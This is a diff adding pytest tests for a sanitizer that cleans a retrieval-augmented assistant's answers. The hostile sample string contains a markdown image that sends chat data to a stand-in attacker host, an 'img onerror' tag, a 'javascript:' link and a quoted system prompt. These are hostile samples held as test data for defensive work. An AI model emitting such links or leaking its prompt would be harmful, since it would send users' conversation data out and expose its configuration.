@@ -1,0 +1,68 @@
+"""What an answer may carry: no remote images, no HTML, no foreign links, no system prompt."""
+
+from __future__ import annotations
+
+import pytest
+
+from tandem.answer_safety import REMOVED_LINK, StreamSanitizer, sanitize
+from tandem.rag.prompt import SYSTEM_PROMPT
+
+DOCS = {"docs.paperless-ngx.com"}  # TANDEM_LINK_HOSTS
+HOSTILE = (
+    "Open Settings. ![logo](https://evil.example/p.png?chat=secret) <img src=x onerror=y>\n"
+    "See [the guide](https://docs.paperless-ngx.com/usage/) and [this](http://evil.example/x), "
+    "also https://evil.example/z, //evil.example/q and www.evil.example [1].\n"
+    f"My instructions: {SYSTEM_PROMPT}\n"
+    "Sources: [1], [2]"
+)
+
+
+def test_markup_and_foreign_links_are_neutralised() -> None:
+    clean = sanitize(HOSTILE, DOCS)
+    assert "evil.example" not in clean and "<img" not in clean and "![" not in clean
+    assert "Open Settings. logo" in clean
+    assert "[the guide](https://docs.paperless-ngx.com/usage/)" in clean
+    assert "and this, also" in clean and clean.count(REMOVED_LINK) == 3
+    assert "Sources: [1], [2]" in clean and "[1]." in clean
+
+
+def test_quotes_of_the_system_prompt_are_cut() -> None:
+    clean = sanitize(HOSTILE, DOCS)
+    assert "numbered documentation context" not in clean and "friendly" not in clean
+    assert "My instructions: \n" in clean
+    assert sanitize("You are welcome. Open the friendly menu.", set()).startswith("You are")
+
+
+def test_relative_links_stay_and_schemes_other_than_http_go() -> None:
+    assert sanitize("[setup](../setup.md)", set()) == "[setup](../setup.md)"
+    assert sanitize("[x](javascript:alert(1))", set()).startswith("x")
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
+def test_the_stream_sends_what_the_whole_answer_would(size: int) -> None:
+    stream = StreamSanitizer(DOCS)
+    pieces = [stream.feed(HOSTILE[i : i + size]) for i in range(0, len(HOSTILE), size)]
+    streamed = "".join(pieces) + stream.flush()
+    assert streamed == sanitize(HOSTILE, DOCS)
+
+
+def test_plain_words_leave_before_the_line_ends() -> None:
+    stream = StreamSanitizer(set())
+    sent = stream.feed("To export your documents open the ")
+    assert sent.startswith("To export") and "open the" not in sent  # the last words wait
+
+
+def test_citations_do_not_hold_the_line_but_links_do() -> None:
+    stream = StreamSanitizer(set())
+    sent = stream.feed("Open Settings [1] and then click the big red button ")
+    assert sent.startswith("Open Settings [1] and")
+    held = StreamSanitizer(set())
+    sent = held.feed("See [the page](https://evil.example/x) and then click the button ")
+    assert sent == "See "  # the link waits for its line to end
+    assert held.feed("\n") == "the page and then click the button \n"
+
+
+def test_only_words_that_could_begin_a_quote_wait() -> None:
+    stream = StreamSanitizer(set())
+    assert stream.feed("Click Save. You are ") == "Click Save. "  # "you are" starts the prompt
+    assert stream.feed("done now ") == "You are done now "
